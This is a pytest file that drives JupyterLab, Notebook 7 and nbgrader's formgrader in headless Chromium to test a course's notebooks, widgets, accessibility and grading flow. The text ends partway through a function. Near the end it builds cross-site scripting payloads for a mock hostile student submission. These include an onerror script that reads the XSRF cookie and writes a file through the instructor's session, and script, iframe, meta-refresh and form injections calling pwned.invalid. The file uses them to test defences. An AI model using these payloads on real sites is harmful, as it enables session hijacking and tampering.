"""The course in a real browser: JupyterLab and Notebook 7, driven by Playwright in Debian's chromium.

The tests start their own Jupyter server on a free loopback port with a token, on a temporary copy of
the student notebooks and an nbgrader course folder (for the formgrader), and stop it afterwards.
Every widget cell (nbgrader grade_id "widget" or "widget_<name>") of every session is exercised;
screenshots of each before and after a control moves are saved in ``test-artifacts/browser/``.
"""

from __future__ import annotations

import json
import os
import re
import secrets
import shutil
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import nbformat
import pytest

from helpers import free_port
from reglab import course

# one JupyterLab server and one Chromium for all of them (each costs about half a minute to set up)
pytestmark = pytest.mark.xdist_group("browser")
ROOT = Path(__file__).resolve().parents[1]
BIN = Path(sys.executable).parent
ARTIFACTS = ROOT / "test-artifacts" / "browser"
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
SESSIONS = [s.id for s in course.SESSIONS]

if not Path(CHROMIUM).exists():  # `make test` installs it (make sysdeps); say exactly what is missing
    pytest.fail(f"Debian's chromium is not installed ({CHROMIUM}); run `make sysdeps` or `apt-get install chromium`",
                pytrace=False)

from playwright.sync_api import expect, sync_playwright  # noqa: E402


def _wait_for_server(url, token, proc, name, log_path, seconds=90):
    """Wait until a Jupyter server answers its status API; fail with the end of its log if it exits or times out."""
    deadline = time.time() + seconds
    while True:
        try:
            urllib.request.urlopen(f"{url}/api/status?token={token}", timeout=2)
            return
        except OSError:
            if proc.poll() is not None or time.time() > deadline:
                pytest.fail(f"{name} did not start:\n" + Path(log_path).read_text()[-3000:], pytrace=False)
            time.sleep(0.5)


_GENERATE = """
import sys
from nbgrader.apps import NbGraderAPI
from traitlets.config import Config

cfg = Config()
cfg.CourseDirectory.root = sys.argv[1]
api = NbGraderAPI(config=cfg)
for sid in sys.argv[2:]:
    result = api.generate_assignment(sid, force=True, create=True)
    if not result["success"]:
        sys.exit(f"nbgrader generate_assignment {sid} failed:\\n{result.get('log')}")
"""


def _generate_assignments(root, env):
    """nbgrader generate_assignment for every session, through its API in one process (seven command lines cost
    about 20 s of Python start-ups); nbgrader runs alembic, found on the environment's PATH."""
    r = subprocess.run([sys.executable, "-c", _GENERATE, str(root), *SESSIONS], cwd=root, env=env,
                       capture_output=True, text=True)
    assert r.returncode == 0, r.stderr[-3000:]


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    root = tmp_path_factory.mktemp("labroot")
    shutil.copytree(ROOT / "notebooks", root / "notebooks")
    for sid in SESSIONS:  # an nbgrader course for the formgrader: sources and the gradebook
        shutil.copytree(ROOT / "solutions" / sid, root / "source" / sid)
    (root / "nbgrader_config.py").write_text(f"c = get_config()\nc.CourseDirectory.root = {str(root)!r}\n")
    # every cell in the DOM (no windowing), so the test sees all prompts and outputs
    settings = root / ".jupyter" / "lab" / "user-settings" / "@jupyterlab" / "notebook-extension"
    settings.mkdir(parents=True)
    (settings / "tracker.jupyterlab-settings").write_text(json.dumps({"windowingMode": "none"}))
    notify = root / ".jupyter" / "lab" / "user-settings" / "@jupyterlab" / "apputils-extension"
    notify.mkdir(parents=True)
    (notify / "notification.jupyterlab-settings").write_text(json.dumps({"fetchNews": "false"}))
    env = dict(os.environ, PATH=f"{BIN}:{os.environ['PATH']}", REGLAB_PROGRESS_FILE=str(root / "progress.json"),
               JUPYTER_CONFIG_DIR=str(root / ".jupyter"), JUPYTER_RUNTIME_DIR=str(root / ".runtime"))
    env["REGLAB_CHECK_FIGURES"] = "1"  # a figure that is not legible says so on stderr: _check_errors fails on it
    _generate_assignments(root, env)
    port, token = free_port(), secrets.token_hex(16)
    log = open(root / "server.log", "w")
    proc = subprocess.Popen(
        [str(BIN / "jupyter"), "lab", "--no-browser", "--ip=127.0.0.1", f"--port={port}",
         f"--ServerApp.root_dir={root}",
         f"--IdentityProvider.token={token}", "--allow-root", "--ServerApp.port_retries=0",
         "--LabApp.news_url=", "--LabApp.check_for_updates_class=jupyterlab.NeverCheckForUpdate"],
        cwd=root, env=env, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    _wait_for_server(url, token, proc, "jupyter lab", root / "server.log")
    yield {"url": url, "token": token, "root": root}
    proc.terminate()
    try:
        proc.wait(timeout=20)
    except subprocess.TimeoutExpired:
        proc.kill()
    log.close()


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=[
            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
            "--disable-sync", "--no-first-run", "--disable-dev-shm-usage"])
        yield b
        b.close()


def _shutdown_kernels(server):
    """Each test starts from a server with no kernels running."""
    base = f"{server['url']}/api/kernels"
    hdr = {"Authorization": f"token {server['token']}"}
    with urllib.request.urlopen(urllib.request.Request(base, headers=hdr), timeout=10) as r:
        kernels = json.load(r)
    for k in kernels:
        urllib.request.urlopen(urllib.request.Request(f"{base}/{k['id']}", method="DELETE", headers=hdr), timeout=30)


@pytest.fixture
def page(browser, request, server):
    ctx = browser.new_context(viewport={"width": 1400, "height": 1000})
    pg = ctx.new_page()
    pg.console_log = []
    pg.on("console", lambda m: pg.console_log.append(f"{m.type}: {m.text}") if m.type in ("error", "warning") else None)
    pg.on("pageerror", lambda e: pg.console_log.append(f"pageerror: {e}"))
    yield pg
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    if getattr(request.node, "rep_call", None) is not None and request.node.rep_call.failed:
        pg.screenshot(path=str(ARTIFACTS / f"FAILED_{request.node.name}.png"), full_page=False)
    ctx.close()
    _shutdown_kernels(server)


def _exercise_cells(sid):
    """The cells allowed to fail (exercises and their checks) and the widget cells, by index, of a notebook.

    Widget cells are those whose nbgrader grade_id is "widget" (the session's main exploration) or
    starts with "widget_" (any other), mapped to that grade_id.
    """
    nb = nbformat.read(ROOT / "notebooks" / sid / f"{sid}.ipynb", as_version=4)
    allowed, widgets = set(), {}
    for i, c in enumerate(nb.cells):
        m = c.metadata.get("nbgrader", {})
        if m.get("solution") or m.get("grade"):
            allowed.add(i)
        grade_id = m.get("grade_id", "")
        if grade_id == "widget" or grade_id.startswith("widget_"):
            widgets[i] = grade_id
    assert "widget" in widgets.values(), f"{sid}: no cell with grade_id 'widget' (the session's exploration)"
    return allowed, widgets, nb


def _diagnose(page, extra=""):
    return (extra + "\nbrowser console:\n  " + "\n  ".join(page.console_log[-15:]))[:6000]


def _idle(page, timeout_s=120):
    indicator = page.locator(".jp-Notebook-ExecutionIndicator[data-status='idle']").first
    expect(indicator).to_be_attached(timeout=timeout_s * 1000)


def _restart_and_run_all(page):
    _idle(page)
    page.get_by_role("menuitem", name="Kernel", exact=True).click()
    page.get_by_role("menuitem", name="Restart Kernel and Run All Cells…").click()
    page.locator(".jp-Dialog .jp-mod-accept").click()


def _accept_kernel_dialog(page):
    """Accept JupyterLab's "Select Kernel" dialog if it is up (with its default, the notebook's own Python kernel):
    on a busy machine the page sometimes asks although the notebook's kernel has started, and the dialog is
    modal."""
    dialog = page.locator(".jp-Dialog", has_text="Select Kernel")
    if dialog.count():
        print("JupyterLab asked to select a kernel; accepting its default")
        dialog.locator(".jp-mod-accept").click()
        expect(dialog).to_have_count(0, timeout=10_000)  # gone before the menu is tried (it closes asynchronously)


def _run_all_cells(page, attempts=5):
    """Run > Run All Cells. The "Select Kernel" dialog can open again just after one was accepted (seen on a busy
    machine): a menu click it blocks for 10 s is tried again after accepting it; any other dialog fails the test."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    for attempt in range(attempts):
        _accept_kernel_dialog(page)
        _idle(page)
        try:
            run_all = page.get_by_role("menuitem", name="Run All Cells", exact=True)
            if not run_all.is_visible():  # (the Run menu may be open still, from an attempt a dialog blocked)
                page.get_by_role("menuitem", name="Run", exact=True).click(timeout=10_000)
            run_all.click(timeout=10_000)
            return
        except PlaywrightTimeout:
            dialogs = page.locator(".jp-Dialog").all_inner_texts()
            if attempt == attempts - 1 or not any("Select Kernel" in d for d in dialogs):
                raise AssertionError(_diagnose(page, f"Run All Cells could not be clicked; dialogs: {dialogs}"))
            print("a Select Kernel dialog blocked the Run menu; accepting it and trying again")


def _run_all(page, ncells, timeout_s=240):
    """Run every cell of a notebook just opened (its kernel fresh and idle) through the page's own menu, then wait
    until all ran.

    Not "Restart Kernel and Run All": right after a kernel starts, a restart can race with the page's websocket
    reconnection (the server fails to parse a message, drops the connection, kernel status "Unknown") and the queued
    cells never run. On 2 busy cores, a Run All issued while the page still settles its new kernel session
    sometimes selects every cell and runs none (every prompt stays "[ ]:", the kernel idle): when no cell has
    started 10 s after a Run All, issue it again (nothing is queued then), and say so in the output. If nothing
    progresses for 45 s anyway, reload the page (a new websocket) and restart-and-run-all once.
    """
    _run_all_cells(page)
    deadline = time.time() + timeout_s
    retried, reissued = False, 0
    last, last_change, issued = None, time.time(), time.time()
    prompts = []
    while time.time() < deadline:
        prompts = [p.strip() for p in page.locator(".jp-Notebook .jp-CodeCell .jp-InputArea-prompt").all_inner_texts()]
        if prompts and all(p not in ("[ ]:", "") and "*" not in p for p in prompts):
            return prompts
        if prompts != last:
            last, last_change = prompts, time.time()
        if all(p in ("[ ]:", "") for p in prompts) and time.time() - issued > 10 and reissued < 3 and not retried:
            _accept_kernel_dialog(page)
            print("Run All Cells started no cell in 10 s; issuing it again")
            reissued += 1
            _run_all_cells(page)
            issued = last_change = time.time()
        elif not retried and time.time() - last_change > 45:
            print("Run All stalled for 45 s; reloading the page and restarting the kernel and running all, once")
            retried = True
            page.reload()
            expect(page.locator(".jp-Notebook .jp-Cell").first).to_be_visible(timeout=60_000)
            _restart_and_run_all(page)
            last_change = time.time()
        time.sleep(0.5)
    raise AssertionError(_diagnose(page, f"cells did not finish running in {timeout_s} s; prompts: {prompts}"))


def _check_errors(page, sid, allowed):
    cells = page.locator(".jp-Notebook .jp-Cell")
    problems = []
    for i in range(cells.count()):
        err = cells.nth(i).locator(".jp-OutputArea-output[data-mime-type='application/vnd.jupyter.stderr']")
        if err.count() and i not in allowed:
            problems.append(f"cell {i}: {err.first.inner_text()[:500]}")
    assert not problems, _diagnose(page, f"{sid}: errors outside the exercises:\n" + "\n".join(problems))


def _widget_image(cell):
    img = cell.locator(".reglab-exploration img").first
    try:
        expect(img).to_be_visible(timeout=30_000)
    except AssertionError:
        raise AssertionError("the widget's figure did not render; the cell shows:\n"
                             + cell.inner_text()[:1500]) from None
    return img


def _move_control(page, cell):
    handle = cell.locator(".reglab-exploration .noUi-handle").first
    if handle.count():
        box = handle.bounding_box()
        page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        page.mouse.down()
        page.mouse.move(box["x"] + box["width"] / 2 + 70, box["y"] + box["height"] / 2, steps=8)
        page.mouse.up()
        return "slider"
    select = cell.locator(".reglab-exploration select").first
    options = select.locator("option").all_inner_texts()
    select.select_option(label=options[-1])
    return "dropdown"


def _check_controls_are_named(cell, sid):
    """Every control of the exploration has an accessible name; a slider announces the value its readout shows
    (not a log slider's exponent), rounded as people read it ("15", not "15.0")."""
    sliders = cell.locator(".reglab-exploration .widget-slider")
    for i in range(sliders.count()):
        slider = sliders.nth(i)
        label = slider.locator(".widget-label").inner_text().strip()
        readout = slider.locator(".widget-readout").inner_text().strip()
        handle = slider.get_by_role("slider")
        expect(handle).to_have_accessible_name(label)
        expect(handle).to_have_attribute("aria-valuetext", readout)
        assert label and not re.search(r"\.\d*0$", readout), f"{sid}: slider {label!r} reads out {readout!r}"
    selects = cell.locator(".reglab-exploration select")
    for i in range(selects.count()):
        expect(selects.nth(i)).to_have_accessible_name(re.compile(r"\w"))


def _check_figures_have_alt_text(page, sid):
    """Every figure in the notebook's outputs is an image with alternative text of its own (JupyterLab's
    placeholder for an image without one is "Image")."""
    figures = page.locator(".jp-Notebook .jp-OutputArea-output img")
    assert figures.count() > 0, f"{sid}: no figure in the outputs"
    for i in range(figures.count()):
        alt = figures.nth(i).get_attribute("alt") or ""
        assert len(alt) > 20 and alt != "Image", f"{sid}: figure {i} has the alternative text {alt!r}"


def _exercise_widgets(page, sid, widgets, prefix):
    """Every widget cell: it renders, a control moves, the picture changes (screenshots before and after)."""
    for index, grade_id in widgets.items():
        name = sid if grade_id == "widget" else f"{sid}_{grade_id}"
        _exercise_widget(page, name, index, prefix)


def _exercise_widget(page, sid, widget_index, prefix):
    cell = page.locator(".jp-Notebook .jp-Cell").nth(widget_index)
    cell.scroll_into_view_if_needed()
    try:  # the widget, or the front end's own error in its place
        widget_or_error = cell.locator(".reglab-exploration").or_(cell.get_by_text("Error displaying widget")).first
        expect(widget_or_error).to_be_visible(timeout=30_000)
    except AssertionError:
        raise AssertionError(
            _diagnose(page, f"{sid}: no widget rendered; the cell shows:\n{cell.inner_text()[:1500]}")) from None
    assert "Error displaying widget" not in cell.inner_text(), \
        _diagnose(page, f"{sid}: the widget failed in the page; the cell shows:\n{cell.inner_text()[:1500]}")
    img = _widget_image(cell)
    before_src, before_alt = img.get_attribute("src"), img.get_attribute("alt")
    assert before_alt, _diagnose(page, f"{sid}: the exploration's picture has no alternative text")
    expect(cell.locator(".reglab-stopped")).to_be_hidden()  # (shown only once the kernel has gone)
    _check_controls_are_named(cell, sid)
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    cell.screenshot(path=str(ARTIFACTS / f"{prefix}{sid}_before.png"))
    how = _move_control(page, cell)
    deadline = time.time() + 30
    while time.time() < deadline and _widget_image(cell).get_attribute("src") == before_src:
        time.sleep(0.3)
    after_src, after_alt = _widget_image(cell).get_attribute("src"), _widget_image(cell).get_attribute("alt")
    cell.screenshot(path=str(ARTIFACTS / f"{prefix}{sid}_after.png"))
    assert after_src != before_src, _diagnose(page, f"{sid}: moving the {how} did not change the figure")
    assert after_alt and after_alt != before_alt, \
        _diagnose(page, f"{sid}: moving the {how} left the alternative text as it was: {after_alt!r}")
    _check_controls_are_named(cell, sid)  # the moved slider announces its new value


def _open_lab(page, server, sid):
    # a workspace of its own: no tabs restored from an earlier test
    ws = secrets.token_hex(4)
    page.goto(f"{server['url']}/lab/workspaces/{ws}/tree/notebooks/{sid}/{sid}.ipynb?token={server['token']}")
    expect(page.locator(".jp-NotebookPanel .jp-Notebook .jp-Cell").first).to_be_visible(timeout=60_000)
    _idle(page)


@pytest.mark.parametrize("sid", SESSIONS)
def test_session_runs_and_its_widgets_redraw_in_jupyterlab(page, server, sid):
    allowed, widgets, nb = _exercise_cells(sid)
    _open_lab(page, server, sid)
    _run_all(page, len(nb.cells))
    _check_errors(page, sid, allowed)
    _check_figures_have_alt_text(page, sid)
    _exercise_widgets(page, sid, widgets, "lab_")


def test_a_session_in_notebook_7(page, server):
    sid = "03_early_stopping"
    allowed, widgets, nb = _exercise_cells(sid)
    page.goto(f"{server['url']}/tree/notebooks/{sid}?token={server['token']}")
    expect(page.get_by_text(f"{sid}.ipynb")).to_be_visible(timeout=60_000)
    page.goto(f"{server['url']}/notebooks/notebooks/{sid}/{sid}.ipynb?token={server['token']}")
    expect(page.locator(".jp-Notebook .jp-Cell").first).to_be_visible(timeout=60_000)
    _idle(page)
    _run_all(page, len(nb.cells))
    _check_errors(page, sid, allowed)
    _exercise_widgets(page, sid, widgets, "nb7_")
    _restart_and_see_the_explorations_say_so(page, sid, widgets, "nb7_")


def _restart_and_see_the_explorations_say_so(page, sid, widgets, prefix):
    """After a kernel restart ipywidgets marks every widget of the old kernel with a red broken-chain icon; each
    exploration also says that it stopped with its kernel and that running its cell again brings it back."""
    page.get_by_role("menuitem", name="Kernel", exact=True).click()
    page.get_by_role("menuitem", name="Restart Kernel…").click()  # (its name ends with the shortcut)
    page.locator(".jp-Dialog .jp-mod-accept").click()
    for index, grade_id in widgets.items():
        cell = page.locator(".jp-Notebook .jp-Cell").nth(index)
        notice = cell.locator(".reglab-stopped")
        expect(notice).to_be_visible(timeout=30_000)
        expect(notice).to_contain_text("Run its cell again")
        name = sid if grade_id == "widget" else f"{sid}_{grade_id}"
        cell.screenshot(path=str(ARTIFACTS / f"{prefix}{name}_after_restart.png"))
    _idle(page)  # the new kernel up before the test ends (and its kernels are shut down)


def test_answer_an_exercise_in_the_page_and_see_the_gate(page, server):
    sid = "00_overfitting"
    allowed, _, nb = _exercise_cells(sid)
    _open_lab(page, server, sid)
    _run_all(page, len(nb.cells))
    idx = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "a_q1")
    test_idx = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "q1")
    gate_idx = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "gate")
    cells = page.locator(".jp-Notebook .jp-Cell")
    editor = cells.nth(idx).locator(".cm-content")
    sweep = ("overfitting.degree_sweep(*data.polynomial_data(15, noise=0.3, rng=2), "
             "*data.polynomial_data(200, noise=0.3, rng=102), degrees)")
    editor.click()
    page.keyboard.press("Control+a")
    page.keyboard.type(f"best_degree = int(degrees[np.argmin({sweep}[0])])")  # the classic mistake: training error
    page.keyboard.press("Shift+Enter")
    page.keyboard.press("Shift+Enter")
    box = cells.nth(test_idx).locator(".reglab-check-failed")  # one box, no traceback, the mistake in words
    expect(box).to_contain_text("lowest TRAINING error", timeout=30_000)
    outputs = cells.nth(test_idx).locator(".jp-Cell-outputArea")
    expect(outputs).not_to_contain_text("misconception")
    expect(outputs).not_to_contain_text("Traceback")
    cells.nth(test_idx).screenshot(path=str(ARTIFACTS / "failed_check_box.png"))
    heading = page.get_by_role("heading", name="2. Overfitting, measured")
    box.scroll_into_view_if_needed()
    expect(heading).not_to_be_in_viewport()
    box.get_by_role("link", name="2. Overfitting, measured").click()  # the link to the section to reread
    expect(heading).to_be_in_viewport(timeout=10_000)
    editor.click()
    page.keyboard.press("Control+a")
    page.keyboard.type(f"best_degree = int(degrees[np.argmin({sweep}[1])])")
    page.keyboard.press("Shift+Enter")  # run the answer, move to its check cell
    page.keyboard.press("Shift+Enter")  # run the check
    expect(cells.nth(test_idx).locator(".jp-OutputArea-output").first).to_contain_text("q1 passed", timeout=30_000)
    cells.nth(gate_idx).scroll_into_view_if_needed()
    cells.nth(gate_idx).click()
    page.keyboard.press("Shift+Enter")
    gate = cells.nth(gate_idx).locator(".reglab-gate")
    expect(gate).to_be_visible(timeout=30_000)
    row = gate.locator("tr", has_text="Pick the degree")
    expect(row).to_contain_text("passed", timeout=30_000)
    expect(gate).to_contain_text("Not yet")  # the other questions are still open
    # the written answer, read from the notebook's file (JupyterLab tells the kernel its path)
    expect(gate.locator("tr", has_text="w1")).to_contain_text("not answered")
    expect(gate).to_contain_text(f"as {sid}.ipynb was last saved")
    cells.nth(gate_idx).screenshot(path=str(ARTIFACTS / "gate_after_q1.png"))


def test_a_new_variant_from_the_checks_button_then_mastery_in_the_gate(page, server):
    """The practice loop in the page: a pass on the course's instance, the check's "New variant" button, the same
    answer on the new givens passes again: q1 is mastered and its gate row says passed."""
    sid = "01_l2_weight_decay"
    _, _, nb = _exercise_cells(sid)
    _open_lab(page, server, sid)
    index = {c.metadata.get("nbgrader", {}).get("grade_id"): i for i, c in enumerate(nb.cells)}
    _run_all(page, len(nb.cells))  # the student's copy: q1 not answered yet (no attempt)
    cells = page.locator(".jp-Notebook .jp-Cell")
    editor = cells.nth(index["a_q1"]).locator(".cm-content")

    def answer_and_check():
        editor.click()
        page.keyboard.press("Control+a")
        page.keyboard.type('eta, lam = checks.givens("q1")\ndecay = 1 - 2 * eta * lam')
        page.keyboard.press("Shift+Enter")  # the answer (it prints its givens), then its check
        page.keyboard.press("Shift+Enter")

    answer_and_check()
    check = cells.nth(index["q1"]).locator(".jp-Cell-outputArea")
    expect(check).to_contain_text("q1 passed", timeout=30_000)
    expect(check).to_contain_text("q1: 1 of 2 variants in a row")
    expect(cells.nth(index["a_q1"]).locator(".jp-Cell-outputArea")).to_contain_text("(the course's instance)")
    button = check.get_by_role("button", name="New variant of q1")
    expect(button).to_be_visible(timeout=30_000)
    button.click()
    expect(check).to_contain_text("New variant for q1 (variant 1)", timeout=30_000)
    cells.nth(index["q1"]).screenshot(path=str(ARTIFACTS / "new_variant_button.png"))
    answer_and_check()
    expect(cells.nth(index["a_q1"]).locator(".jp-Cell-outputArea")).to_contain_text("(variant 1)", timeout=30_000)
    expect(check).to_contain_text("q1: mastered", timeout=30_000)
    cells.nth(index["gate"]).scroll_into_view_if_needed()
    cells.nth(index["gate"]).click()
    page.keyboard.press("Shift+Enter")
    row = cells.nth(index["gate"]).locator(".reglab-gate tr", has_text="Decay factor")
    expect(row).to_contain_text("passed", timeout=30_000)
    expect(row).not_to_contain_text("not mastered")


def test_formgrader_lists_the_seven_assignments(page, server):
    page.goto(f"{server['url']}/lab/workspaces/{secrets.token_hex(4)}?token={server['token']}")
    expect(page.locator("#jp-main-dock-panel")).to_be_visible(timeout=60_000)
    page.get_by_role("menuitem", name="Nbgrader", exact=True).click()
    page.get_by_role("menuitem", name="Formgrader").click()
    frame = page.frame_locator("iframe").first
    for sid in SESSIONS:
        expect(frame.get_by_text(sid, exact=True).first).to_be_visible(timeout=60_000)
    page.screenshot(path=str(ARTIFACTS / "formgrader.png"))


def _wait_for_formgrade_ready(page, timeout):
    """Wait until formgrader's grading page has bound its score and comment boxes to the gradebook.

    The boxes are in the page's HTML before its script has fetched the grades and comments and attached a save
    handler to each; a value typed earlier is never saved. MathJax, when it has loaded, moves the focus to the first
    box once it has typeset the page. (The page loads MathJax from the server, `reglab formgrader`'s; the script has
    loaded by the time formgrader's own script starts, on the window's load event. nbgrader's own page loads it from a
    CDN: offline, MathJax stays undefined.) nbgrader's own browser tests wait for the same flags. The grading page's
    frame."""
    deadline = time.monotonic() + timeout
    while (frame := next((f for f in page.frames if "/formgrader/submissions/" in f.url), None)) is None:
        assert time.monotonic() < deadline, "formgrader's grading page did not open"
        time.sleep(0.1)
    frame.wait_for_function(
        "() => typeof formgrader !== 'undefined'"
        " && formgrader.grades !== undefined && formgrader.grades.loaded === true"
        " && formgrader.comments !== undefined && formgrader.comments.loaded === true"
        " && (typeof MathJax === 'undefined' || MathJax.loaded === true)",
        timeout=max(1, deadline - time.monotonic()) * 1000)
    return frame


def _model_answer_start(sid, grade_id):
    """The first words of the model answer of ``grade_id`` in the instructor's notebook (its solution region), as
    the page shows them (markdown emphasis rendered)."""
    nb = nbformat.read(ROOT / "solutions" / sid / f"{sid}.ipynb", as_version=4)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    lines = cell.source.split("\n")
    first = lines[lines.index(next(x for x in lines if "BEGIN SOLUTION" in x)) + 1]
    return " ".join(first.replace("*", "").split()[:6])


def _wait_for_manual_grade(out, sid, score, comment, timeout):
    """The student whose submission formgrader saved ``score`` and ``comment`` for, once the gradebook has both."""
    from nbgrader.api import Gradebook
    from reglab_autograder.options import db_url_for

    deadline = time.monotonic() + timeout
    while True:
        with Gradebook(db_url_for(out)) as gb:
            for nb in gb.find_notebook(sid, sid).submissions:
                if any(g.manual_score == score for g in nb.grades) and \
                        any(c.manual_comment == comment for c in nb.comments):
                    return nb.student.id
        assert time.monotonic() < deadline, f"formgrader did not save the score {score} and the comment in {timeout} s"
        time.sleep(0.2)


# nbgrader's formgrader API endpoints that run notebooks (autograde), redo `reglab grade`'s setup (generate), write
# feedback (generate feedback) or use its exchange (release, collect, release feedback): `reglab formgrader` must
# refuse every one
NBGRADER_ACTIONS = ["assignment/{a}/assign", "assignment/{a}/unrelease", "assignment/{a}/release",
                    "assignment/{a}/collect", "assignment/{a}/generate_feedback", "assignment/{a}/release_feedback",
                    "assignment/{a}/{s}/generate_feedback", "assignment/{a}/{s}/release_feedback",
                    "submission/{a}/{s}/autograde"]


# a hostile student's payloads, each of which, if it ran or loaded, would set window.PWNED, change the page's title
# or ask for a pwned.invalid URL (which the browser context records and aborts): the reviewer's, which creates a
# file through the instructor's session, then one of each kind the grading page must neither run nor load
REVIEWER_JS = ("var x=(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]||'';fetch('/api/contents/PWNED_by_student.txt',"
               "{method:'PUT',credentials:'same-origin',headers:{'X-XSRFToken':x,'Content-Type':'application/json'},"
               "body:JSON.stringify({type:'file',format:'text',content:'student JS ran'})})"
               ".then(r=>{document.title='PUT '+r.status});")


def _payload(where):
    def run(kind):
        return f"window.PWNED='{where} {kind}';fetch('http://pwned.invalid/{where}/{kind}')"
    return (f'<img src="x" onerror="{REVIEWER_JS.replace(chr(34), "&quot;")}">\n'
            f'<img src="y" onerror="{run("img")}">\n'
            f'<script>{run("script")}</script>\n'
            f'<iframe src="http://pwned.invalid/{where}/iframe"></iframe>\n'
            f'<meta http-equiv="refresh" content="0;url=http://pwned.invalid/{where}/meta">\n'
            f'<base href="http://pwned.invalid/{where}/base/">\n'
            f'<form action="http://pwned.invalid/{where}/form" class="pwned"><button>send</button></form>\n')


def _hostile_submission(sid):
    """alice's answers with the payloads in the written answer w1 (and a markdown ``javascript:`` link) and in the
    outputs of the last code answer (an HTML output and a JavaScript output, which grading's run produces)."""
    from reglab_autograder.testing import classroom

    nb = classroom.answered(sid)
    w1 = classroom.cell_by_id(nb, "w1")
    w1.source = ("My answer: biases shift outputs.\n\n" + _payload("markdown")
                 + "\n[see this](javascript:window.PWNED='link')\n")
    code = classroom.cell_by_id(nb, classroom.solution_ids(sid, code_only=True)[-1])
    code.source += ("\nfrom IPython.display import HTML, Javascript, display\n"
                    f"display(HTML({_payload('output')!r}))\n"
                    "display(Javascript(\"window.PWNED='js';fetch('http://pwned.invalid/js')\"))\n")
    return nb


def _check_grading_page_runs_no_payload(page, grading, url, out, sid, blocked):
    """mallory's grading page, opened in the grading frame: none of her payloads ran or loaded, her answer is
    shown, and a score typed beside it is saved."""
    from nbgrader.api import Gradebook
    from reglab_autograder.options import db_url_for

    with Gradebook(db_url_for(out)) as gb:
        submission = gb.find_submission_notebook(sid, sid, "mallory").id
    grading.goto(f"{url}/formgrader/submissions/{submission}/")
    grading = _wait_for_formgrade_ready(page, timeout=60)
    expect(grading.locator("body")).to_contain_text("My answer: biases shift outputs.")
    page.wait_for_timeout(3000)  # time for an onerror, a refresh or a fetch to happen
    assert "/formgrader/submissions/" in grading.url, grading.url  # no refresh away
    assert grading.evaluate("window.PWNED") is None, grading.evaluate("window.PWNED")
    assert not grading.evaluate("document.title").startswith("PUT"), grading.evaluate("document.title")
    assert not [u for u in blocked if "pwned" in u], blocked
    assert not list(out.rglob("PWNED*")), list(out.rglob("PWNED*"))
    left = grading.evaluate("""() => [...document.querySelectorAll('base, #notebook-container iframe, form.pwned,'
                                   + ' a[href^="javascript:"]')].map(e => e.outerHTML)""")
    assert left == [], left
    csp = grading.evaluate("""async () => (await fetch(location.href)).headers.get('content-security-policy')""")
    for directive in ("object-src 'none'", "base-uri 'none'", "form-action 'self'", "frame-src 'none'"):
        assert directive in (csp or ""), csp
    score = grading.locator("input.score#w1")
    score.fill("1.5")  # what the main flow gives (mallory's submission may be the one it scored)
    comment = grading.locator("textarea.comment").last
    comment.fill("Right idea; name the variance term.")
    comment.press("Tab")
    score.press("Tab")
    deadline = time.monotonic() + 30
    while True:
        with Gradebook(db_url_for(out)) as gb:
            if gb.find_grade("w1", sid, sid, "mallory").manual_score == 1.5:
                break
        assert time.monotonic() < deadline, "formgrader did not save the score typed on mallory's grading page"
        time.sleep(0.2)


def _local_only(ctx, blocked):
    """Every request of the browser context to another host than the loopback aborted (and listed in ``blocked``):
    the page must work offline."""
    def route(r):
        if urllib.parse.urlsplit(r.request.url).hostname in ("127.0.0.1", "localhost"):
            r.continue_()
        else:
            blocked.append(r.request.url)
            r.abort()
    ctx.route("**/*", route)


def _check_manage_pages(frame):
    """formgrader's Manage Assignments and Manage Submissions pages: no exchange warning, no button that runs
    notebooks or uses the exchange, a note that says what to run instead."""
    frame.get_by_role("link", name="Manage Assignments").click()
    expect(frame.locator("td.name a").first).to_be_visible(timeout=30_000)
    expect(frame.locator("#reglab-actions-note")).to_contain_text("reglab grade")
    expect(frame.locator("#warning-exchange, #warning-course-id")).to_have_count(0)
    headers = [h.strip() for h in frame.locator("thead th:visible").all_inner_texts()]
    assert "Name" in headers and "Generate" not in headers and "Release" not in headers and \
        "Collect" not in headers and "Generate Feedback" not in headers, headers
    expect(frame.locator("td.assign, td.release, td.collect, td.generate-feedback, td.release-feedback")
           .locator("visible=true")).to_have_count(0)
    # no due-date editing, no new assignment (the server refuses both)
    assert "Edit" not in headers, headers
    expect(frame.locator("td.edit").locator("visible=true")).to_have_count(0)
    expect(frame.get_by_text("Add new assignment")).to_have_count(0)
    frame.locator("td.num-submissions a").first.click()  # the assignment's submissions
    expect(frame.locator("td.student-id").first).to_be_visible(timeout=30_000)
    headers = [h.strip() for h in frame.locator("thead th:visible").all_inner_texts()]
    assert "Student ID" in headers and "Autograde" not in headers and "Generate Feedback" not in headers, headers
    expect(frame.locator("td.autograde, td.generate-feedback, td.release-feedback")
           .locator("visible=true")).to_have_count(0)


def _check_assignments_read_only(url, token, out, sid):
    """formgrader's assignment endpoint: GET answers, PUT (a due date, a new assignment) is refused and changes
    nothing in the gradebook or the course folder."""
    from nbgrader.api import Gradebook
    from reglab_autograder.options import db_url_for

    def call(method, aid, body=None):
        return urllib.request.Request(f"{url}/formgrader/api/assignment/{aid}", method=method,
                                      data=None if body is None else json.dumps(body).encode(),
                                      headers={"Authorization": f"token {token}"})

    with Gradebook(db_url_for(out)) as gb:
        before = [(a.name, a.duedate) for a in gb.assignments]
    with urllib.request.urlopen(call("GET", sid), timeout=30) as r:
        assert r.status == 200 and json.loads(r.read())["name"] == sid
    for aid in (sid, "99_phantom"):
